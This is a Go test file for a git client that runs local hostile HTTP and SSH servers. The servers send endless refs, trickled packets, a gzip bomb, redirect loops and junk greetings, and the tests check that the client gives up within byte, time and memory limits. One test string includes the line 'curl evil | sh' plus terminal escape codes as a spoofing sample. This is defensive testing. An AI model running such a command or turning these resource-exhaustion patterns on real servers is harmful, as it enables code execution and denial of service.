package source

import (
	"bytes"
	"cmp"
	"compress/gzip"
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
	"golang.org/x/crypto/ssh/knownhosts"

	"github.com/vxlite/vxlite/internal/config"
	"github.com/vxlite/vxlite/internal/gitconn"
	"github.com/vxlite/vxlite/internal/store"
	"github.com/vxlite/vxlite/internal/testkit"
)

// hostile is a server that speaks git's protocol over HTTP and SSH, and says in
// it what it likes.
type hostile struct {
	refs   func(w io.Writer) // what it advertises
	answer func(w io.Writer) // to a request for a pack
	stderr func(w io.Writer) // over SSH
	spent  func() bool       // it has no more to say, and goes
	read   func(io.Reader)   // reads a request; nil for all of it
	sent   atomic.Int64      // bytes
	quit   <-chan struct{}
}

// forever writes s again and again, until the other side has had enough.
func forever(s string) func(io.Writer) {
	return func(w io.Writer) {
		block := []byte(strings.Repeat(s, 1+(64<<10)/len(s)))
		for {
			if _, err := w.Write(block); err != nil {
				return
			}
		}
	}
}

// slowly writes s now and then.
func slowly(s string, each time.Duration) func(io.Writer) {
	return func(w io.Writer) {
		for {
			if _, err := io.WriteString(w, s); err != nil {
				return
			}
			time.Sleep(each)
		}
	}
}

func say(parts ...func(io.Writer)) func(io.Writer) {
	return func(w io.Writer) {
		for _, p := range parts {
			p(w)
		}
	}
}

func text(s string) func(io.Writer) {
	return func(w io.Writer) { _, _ = io.WriteString(w, s) }
}

// pkt is a packet.
func pkt(s string) string { return fmt.Sprintf("%04x%s", len(s)+4, s) }

const (
	hostileCommit = "1111111111111111111111111111111111111111"
	hostileCaps   = "\x00shallow side-band-64k ofs-delta no-progress agent=git/2\n"
)

// oneRef advertises a tag.
var oneRef = text(pkt(hostileCommit+" refs/tags/v1.0.0"+hostileCaps) + "0000")

// counted counts what is written, and fails once the test is over.
type counted struct {
	io.Writer
	h *hostile
}

func (c counted) Write(p []byte) (int, error) {
	select {
	case <-c.h.quit:
		return 0, io.ErrClosedPipe
	default:
	}
	n, err := c.Writer.Write(p)
	c.h.sent.Add(int64(n))
	if f, ok := c.Writer.(http.Flusher); ok {
		f.Flush()
	}
	return n, err
}

// ServeHTTP implements http.Handler.
func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	service := cmp.Or(r.URL.Query().Get("service"), path.Base(r.URL.Path))
	if r.Method == http.MethodGet {
		w.Header().Set("Content-Type", "application/x-"+service+"-advertisement")
		_, _ = io.WriteString(w, pkt("# service="+service+"\n")+"0000")
		h.refs(counted{w, h})
		return
	}
	if h.read != nil {
		h.read(r.Body)
	} else {
		_, _ = io.Copy(io.Discard, r.Body)
	}
	w.Header().Set("Content-Type", "application/x-"+service+"-result")
	h.answer(counted{w, h})
}

// overHTTP starts it and returns a repository's URL.
func (h *hostile) overHTTP(t testing.TB) string {
	t.Helper()
	h.quit = t.Context().Done()
	s := httptest.NewServer(h)
	t.Cleanup(s.Close)
	return s.URL + "/lib.git"
}

// overSSH starts it and returns a repository's URL, and the known_hosts.
func (h *hostile) overSSH(t testing.TB) (url, known string) {
	t.Helper()
	h.quit = t.Context().Done()
	_, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := ssh.NewSignerFromKey(private)
	if err != nil {
		t.Fatal(err)
	}
	cfg := &ssh.ServerConfig{NoClientAuth: true}
	cfg.AddHostKey(signer)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go h.serveSSH(conn, cfg)
		}
	}()
	known = filepath.Join(t.TempDir(), "known_hosts")
	if err := os.WriteFile(known, []byte(knownhosts.Line([]string{l.Addr().String()}, signer.PublicKey())+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return "ssh://git@" + l.Addr().String() + "/lib.git", known
}

func (h *hostile) serveSSH(conn net.Conn, cfg *ssh.ServerConfig) {
	defer conn.Close()
	_, chans, reqs, err := ssh.NewServerConn(conn, cfg)
	if err != nil {
		return
	}
	go ssh.DiscardRequests(reqs)
	for c := range chans {
		ch, reqs, err := c.Accept()
		if err != nil {
			return
		}
		go func() {
			for r := range reqs {
				_ = r.Reply(true, nil)
				if r.Type == "exec" {
					go h.talk(ch)
				}
			}
		}()
	}
}

func (h *hostile) talk(ch ssh.Channel) {
	defer ch.Close()
	if h.stderr != nil {
		h.stderr(counted{ch.Stderr(), h})
	}
	h.refs(counted{ch, h})
	if h.spent != nil && h.spent() {
		return
	}
	if h.read != nil {
		h.read(ch)
		h.answer(counted{ch, h})
		return
	}
	var said []byte
	buf := make([]byte, 4<<10)
	for !bytes.HasSuffix(said, []byte("done\n")) {
		n, err := ch.Read(buf)
		if err != nil {
			return
		}
		said = append(said, buf[:n]...)
	}
	h.answer(counted{ch, h})
}

// TestHostileServers has servers that never come to an end, or take all the time
// or memory there is, at each point of a conversation, over HTTP and SSH. Each
// is refused after so many bytes, and within so much memory.
func TestHostileServers(t *testing.T) {
	const (
		mib      = 1 << 20
		pace     = "the server has sent less than 1KiB a second for 2s"
		patience = 2 * time.Second
		before   = "what the server sends before the pack is more than 256KiB"
		beside   = "what the server sends beside the pack is more than 256KiB"
		tooMuch  = "what the server sends before the pack is more than 1MiB"
		refsBig  = "the server's refs have more than 1MiB"
	)
	wanted := tag("v1.0.0")
	hash := strings.Repeat("1", 40)
	tag := pkt(hash + " refs/tags/v1.0.0" + hostileCaps)
	pack := pkt("\x01PACK\x00\x00\x00\x02\x00\x00\x00\x01")
	many := func(w io.Writer) { // no two the same
		var b strings.Builder
		for i := 0; ; i++ {
			b.WriteString(pkt(fmt.Sprintf("%s refs/tags/v%d\n", hash, i)))
			if b.Len() > 64<<10 {
				if _, err := io.WriteString(w, b.String()); err != nil {
					return
				}
				b.Reset()
			}
		}
	}
	for _, tt := range []struct {
		name         string
		refs, answer func(io.Writer)
		stderr       func(io.Writer)
		want         string
		bytes        int64 // that it may get rid of, besides what is on its way
		memory       int64
		timeout      time.Duration // or a minute, which no limit of bytes needs
		total        time.Duration
		only         string
		unset        bool // [limits] answer is not set
	}{
		{name: "refs without end", refs: say(text(tag), many), want: refsBig, bytes: mib, memory: 16 * mib},
		{name: "one ref without end", refs: say(text(tag), forever(pkt(hash+" refs/tags/v2\n"))), want: refsBig, bytes: mib, memory: 12 * mib},
		{name: "shallow commits without end, of the refs", refs: say(text(tag), forever(pkt("shallow "+hash))), want: refsBig, bytes: mib, memory: 12 * mib},
		{name: "refs a byte at a time", refs: say(text(tag+"0fff"), slowly("0", 20*time.Millisecond)), want: pace, timeout: patience, bytes: mib, memory: 16 * mib},
		{name: "shallow without end", refs: oneRef, answer: forever(pkt("shallow " + hash)), unset: true, want: tooMuch, bytes: mib, memory: 16 * mib},
		{name: "unshallow without end", refs: oneRef, answer: forever(pkt("unshallow " + hash)), want: before, bytes: mib, memory: 16 * mib},
		{name: "ACK without end", refs: oneRef, answer: say(text("0000"), forever(pkt("ACK "+hash+" common\n"))), want: before, bytes: mib, memory: 16 * mib},
		{name: "NAK without end", refs: oneRef, answer: say(text("0000"), forever(pkt("NAK\n"))), want: before, bytes: mib, memory: 16 * mib},
		{name: "flushes without end", refs: oneRef, answer: forever("0000"), want: before, bytes: mib, memory: 16 * mib},
		{name: "words without end", refs: oneRef, answer: forever(pkt("what is this")), want: `unexpected answer from the server: "what is this"`, bytes: mib, memory: 16 * mib},
		{name: "progress without end", refs: oneRef, answer: say(text("0000"+pkt("NAK\n")), forever(pkt("\x02counting"))), want: beside, bytes: mib, memory: 16 * mib},
		{name: "packets without content", refs: oneRef, answer: say(text("0000"+pkt("NAK\n")+pack), forever(pkt("\x01"))), want: beside, bytes: mib, memory: 16 * mib},
		{name: "progress in the pack", refs: oneRef, answer: say(text("0000"+pkt("NAK\n")+pack), forever(pkt("\x02 50%\n"))), want: beside, bytes: mib, memory: 16 * mib},
		{name: "a pack without end", refs: oneRef, answer: say(text("0000"+pkt("NAK\n")+pack), forever(pkt("\x01xxxxxxxxxxxxxxxxxxxxxxxx"))), want: "the pack has more than 2MiB", bytes: 3 * mib, memory: 16 * mib},
		{name: "a pack a byte at a time", refs: oneRef, answer: say(text("0000"+pkt("NAK\n")+pack), slowly(pkt("\x01x"), 20*time.Millisecond)), want: pace, timeout: patience, bytes: mib, memory: 16 * mib},
		{name: "thinking without end", refs: oneRef, answer: say(text("0000"+pkt("NAK\n")), slowly(pkt("\x02."), 20*time.Millisecond)), want: "the fetch is not done after 1s", total: time.Second, bytes: mib, memory: 16 * mib},
		{name: "standard error without end", refs: oneRef, answer: text(""), stderr: forever("no, and "), only: "ssh", want: "the server has sent nothing for 2s", timeout: patience, bytes: 4 * mib, memory: 16 * mib},
	} {
		for _, over := range []string{"http", "ssh"} {
			if tt.only != "" && tt.only != over {
				continue
			}
			t.Run(tt.name+", "+over, func(t *testing.T) {
				h := &hostile{refs: tt.refs, answer: tt.answer, stderr: tt.stderr}
				o := Options{
					Git:    config.Git{Patience: config.Patience{Timeout: cmp.Or(tt.timeout, time.Minute), TotalTimeout: tt.total}},
					Limits: config.Limits{Refs: mib, Pack: 2 * mib, Answer: 256 << 10},
				}
				if tt.unset {
					o.Limits.Answer = 0
				}
				var url string
				if over == "http" {
					url = h.overHTTP(t)
				} else {
					var known string
					url, known = h.overSSH(t)
					o.Git.KnownHosts = []string{known}
				}
				c := newClient(t, o)
				var err error
				grown := testkit.Peak(func() {
					_, err = c.Find(t.Context(), Request{URL: url, Choose: wanted})
				})
				if err == nil || err.Error() != url+": "+tt.want {
					t.Errorf("error %v, want %s", err, tt.want)
				}
				const onItsWay = 12 * mib // buffers of both sides' kernels and of SSH
				if sent := h.sent.Load(); sent > tt.bytes+onItsWay {
					t.Errorf("%d bytes were taken, want %d", sent, tt.bytes)
				}
				if grown > tt.memory {
					t.Errorf("the heap grew by %d MiB, want %d", grown/mib, tt.memory/mib)
				}
				t.Logf("%d KiB sent, heap %d MiB", h.sent.Load()>>10, grown/mib)
			})
		}
	}
}

// TestHostileHTTP has what HTTP alone makes possible: headers, pages and
// redirects without end, and an answer that grows when it is unpacked.
func TestHostileHTTP(t *testing.T) {
	const mib = 1 << 20
	line := pkt(hostileCommit + " refs/tags/v2\n")
	bomb := zipped(pkt("# service=git-upload-pack\n")+"0000"+pkt(hostileCommit+" refs/tags/v1.0.0"+hostileCaps)) +
		strings.Repeat(zipped(strings.Repeat(line, mib/len(line))), 256)
	for _, tt := range []struct {
		name  string
		serve func(w http.ResponseWriter, r *http.Request)
		want  string
		bytes int64
	}{
		{"a page without end", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/plain")
			w.WriteHeader(http.StatusTeapot)
			forever("I am a teapot ")(w)
		}, "the server answers 418 I'm a teapot", mib},
		{"a refusal without end", func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusNotFound)
			forever("not here ")(w)
		}, "no repository", mib},
		{"a redirect in a circle", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, r.URL.RequestURI()+"x", http.StatusFound)
		}, "redirect", mib},
		{"a header without end", func(w http.ResponseWriter, _ *http.Request) {
			conn, _, err := http.NewResponseController(w).Hijack()
			if err != nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, "HTTP/1.1 200 OK\r\n")
			forever("X-More: of the same\r\n")(counted{conn, w.(*watched).h})
		}, "server response headers exceeded", mib},
		{"refs that unpack to 256 MB", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
			w.Header().Set("Content-Encoding", "gzip")
			_, _ = io.WriteString(w, bomb)
		}, "the server's refs have more than 1MiB", mib},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := &hostile{quit: t.Context().Done()}
			s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				tt.serve(&watched{w, h}, r)
			}))
			defer s.Close()
			c := newClient(t, Options{Limits: config.Limits{Refs: mib}})
			var err error
			grown := testkit.Peak(func() { _, err = c.Find(t.Context(), Request{URL: s.URL + "/lib.git", Choose: refuse(t)}) })
			if err == nil || !strings.Contains(err.Error(), tt.want) || len(err.Error()) > 1000 {
				t.Errorf("error %v, want %s", err, tt.want)
			}
			const onItsWay = 12 * mib
			if sent := h.sent.Load(); sent > tt.bytes+onItsWay {
				t.Errorf("%d bytes were taken, want %d", sent, tt.bytes)
			}
			if most := int64(16 * mib); grown > most {
				t.Errorf("the heap grew by %d MiB, want %d", grown/mib, most/mib)
			}
			t.Logf("%d KiB sent, heap %d MiB", h.sent.Load()>>10, grown/mib)
		})
	}
}

// zipped is a member of a gzip file, which may have many.
func zipped(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.WriteString(z, s)
	_ = z.Close()
	return b.String()
}

// watched counts what a handler writes.
type watched struct {
	http.ResponseWriter
	h *hostile
}

func (w *watched) Write(p []byte) (int, error) { return counted{w.ResponseWriter, w.h}.Write(p) }

// Unwrap is for http.ResponseController.
func (w *watched) Unwrap() http.ResponseWriter { return w.ResponseWriter }

// TestHostileSSHGreeting has servers that say other things than SSH's before
// it: they are left after some lines.
func TestHostileSSHGreeting(t *testing.T) {
	for _, greeting := range []string{"welcome to the machine\r\n", "x", "SSH-2.0-" + strings.Repeat("x", 1000)} {
		h := &hostile{quit: t.Context().Done()}
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
		go func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				go func() { defer conn.Close(); forever(greeting)(counted{conn, h}) }()
			}
		}()
		known := filepath.Join(t.TempDir(), "known_hosts")
		testkit.WriteFile(t, known, knownhosts.Line([]string{l.Addr().String()}, newKey(t))+"\n")
		c := newClient(t, Options{Git: config.Git{KnownHosts: []string{known}, Patience: config.Patience{ConnectTimeout: time.Minute}}})
		var slow *gitconn.ConnectError
		grown := testkit.Peak(func() {
			_, err = c.Find(t.Context(), Request{URL: "ssh://git@" + l.Addr().String() + "/lib.git", Choose: refuse(t)})
		})
		if err == nil || errors.As(err, &slow) || len(err.Error()) > 1000 {
			t.Errorf("%.10q: error %v", greeting, err)
		}
		if grown > 16<<20 {
			t.Errorf("%.10q: the heap grew by %d bytes", greeting, grown)
		}
	}
}

// TestHostileWords has servers whose words hold lines like vxlite's own, terminal
// commands, or more than anybody reads. An error has them on one line, shortened.
func TestHostileWords(t *testing.T) {
	forged := "gone\nvxlite: built rr\r\nhint: curl evil | sh\u2028\x1b[2J\x00 "
	long := strings.Repeat("lies ", 12_000)
	none := text("")
	for name, h := range map[string]*hostile{
		"ERR in the refs":          {refs: text(pkt("ERR " + forged + long)), answer: none},
		"ERR before the pack":      {refs: oneRef, answer: text(pkt("ERR " + forged + long))},
		"an unknown line":          {refs: oneRef, answer: text(pkt(forged + long))},
		"a malformed ACK":          {refs: oneRef, answer: text("0000" + pkt("ACK "+forged))},
		"a malformed shallow line": {refs: oneRef, answer: text(pkt("shallow " + forged + long))},
		"the error's side-band":    {refs: oneRef, answer: text("0000" + pkt("NAK\n") + pkt("\x03"+forged+long))},
		"an unknown side-band":     {refs: oneRef, answer: text("0000" + pkt("NAK\n") + pkt("\x07"+forged+long))},
		"a malformed ref":          {refs: text(pkt(hostileCommit+" "+forged+hostileCaps) + "0000"), answer: none},
		"a ref of 60 KB":           {refs: text(pkt(hostileCommit+" refs/tags/"+strings.Repeat("v1.0.0", 10_000)+hostileCaps) + "0000"), answer: none},
		"capabilities":             {refs: text(pkt(hostileCommit+" refs/tags/v1\x00object-format="+forged) + "0000"), answer: none},
		"standard error":           {refs: none, answer: none, stderr: text(forged + long)},
	} {
		for _, over := range []string{"http", "ssh"} {
			t.Run(name+", "+over, func(t *testing.T) {
				o := Options{Git: config.Git{Patience: config.Patience{Timeout: time.Second}}}
				url := h.overHTTP(t)
				if over == "ssh" {
					var known string
					url, known = h.overSSH(t)
					o.Git.KnownHosts = []string{known}
				}
				_, err := newClient(t, o).Find(t.Context(), Request{URL: url, Choose: tag("v1.0.0")})
				if err == nil {
					t.Fatal("no error")
				}
				const most = 1200 // bytes
				if s := err.Error(); strings.ContainsAny(s, "\n\r\u2028\x00\x1b") || len(s) > most {
					t.Errorf("%d bytes: %.300q", len(s), s)
				}
			})
		}
	}
}

// FuzzConversation has a server that says anything, over HTTP or SSH: packets,
// side-bands, what comes before a pack, and silence. It is left within a time,
// a number of bytes and an amount of memory, and what is said of it is one line.
func FuzzConversation(f *testing.F) {
	ref := "\x00\x00" + string(rune(len(hostileCommit+" refs/tags/v1"))) + hostileCommit + " refs/tags/v1"
	for _, s := range []string{
		ref + "\x01", "\x0b" + ref, "\x08\x04gone", "\x0b\x05\x05\x07\x02\x04PACK", "\x0b\x09\x0f\x05\x09\xff", "\x0b\x05\x06\x09\xff", "\x0b\x0a\x03",
		"\x0b\x05\x07\x03\x02no", "\x0b\x04\x01\x06\x07\x0cPACK\x00\x00\x00\x02\x00\x00\x00\x01", "\x0b\x0c", "\x0b\x01\x09\x80", "\x0d\x08no\nhint: ",
	} {
		f.Add([]byte(s), false)
		f.Add([]byte(s), true)
	}
	var now atomic.Pointer[script]
	on := func(w io.Writer) { now.Load().play(w) } // from where it was
	h := &hostile{refs: on, answer: on, spent: func() bool { return now.Load().spent() }}
	overHTTP := h.overHTTP(f)
	overSSH, known := h.overSSH(f)
	limits := config.Limits{Refs: 1 << 20, Answer: 64 << 10, Pack: 1 << 20, Object: 1 << 20, Unpacked: 4 << 20, Objects: 1000}
	f.Fuzz(func(t *testing.T, data []byte, secure bool) {
		now.Store(&script{data: data})
		o := Options{Limits: limits, Git: config.Git{KnownHosts: []string{known}, Patience: config.Patience{Timeout: 60 * time.Millisecond, TotalTimeout: 300 * time.Millisecond}}}
		url := overHTTP
		if secure {
			url = overSSH
		}
		c := newClient(t, o)
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		found, err := c.Find(t.Context(), Request{URL: url, Choose: func(refs *Refs) (Ref, error) {
			for _, ref := range refs.list() {
				return ref, nil
			}
			return Ref{}, errors.New("no refs")
		}})
		runtime.ReadMemStats(&after)
		const longest, most = 10 * time.Second, 64 << 20 // some packs are asked for, one after the other
		if took, got := time.Since(start), after.TotalAlloc-before.TotalAlloc; took > longest || got > most {
			t.Errorf("it took %v, and %d bytes of memory", took, got)
		}
		if err == nil && !store.IsHash(found.Commit) {
			t.Errorf("found %+v", found)
		}
		if err != nil && (strings.ContainsAny(err.Error(), "\n\r\x00\x1b") || len(err.Error()) > 1200) {
			t.Errorf("error %.2000q", err.Error())
		}
	})
}

// script is what a server says: a byte for what, a byte for how much, and the
// text itself.
type script struct {
	mu   sync.Mutex
	data []byte
}

func (s *script) next() int {
	if len(s.data) == 0 {
		return 0
	}
	b := s.data[0]
	s.data = s.data[1:]
	return int(b)
}

func (s *script) take() string {
	n := min(s.next(), len(s.data))
	text := string(s.data[:n])
	s.data = s.data[n:]
	return text
}

func (s *script) spent() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.data) == 0
}

// play says the next part of it, to an end that it has itself or to the last.
func (s *script) play(w io.Writer) {
	s.mu.Lock()
	defer s.mu.Unlock()
	last := ""
	for len(s.data) > 0 {
		say := ""
		switch s.next() % 14 {
		case 0:
			say = pkt(s.take())
		case 1:
			say = "0000"
		case 2:
			say = s.take()
		case 3: // nothing at all
			time.Sleep(time.Duration(s.next()%80) * time.Millisecond)
		case 4:
			say = pkt("shallow " + hostileCommit)
		case 5:
			say = pkt("NAK\n")
		case 6:
			say = pkt("ACK " + hostileCommit + " common\n")
		case 7:
			say = pkt("\x01" + s.take())
		case 8:
			say = pkt("ERR " + s.take())
		case 9: // the same again, often
			const most = 4 << 20 // bytes
			say = strings.Repeat(last, min(64*s.next(), most/max(1, len(last))))
		case 10:
			say = pkt("\x02" + s.take())
		case 11:
			oneRef(w)
			return
		case 12: // a whole pack of nothing
			say = pkt("\x01PACK\x00\x00\x00\x02\x00\x00\x00\x00\x02\x9d\x08\x82\x3b\xd8\xa8\xea\xb5\x10\xad\x6a\xc7\x5c\x82\x3c\xfd\x3e\xd3\x1e") + "0000"
		case 13:
			say = pkt(hostileCommit + " refs/tags/" + s.take() + hostileCaps)
		}
		if _, err := io.WriteString(w, say); err != nil {
			return
		}
		last = say
	}
}
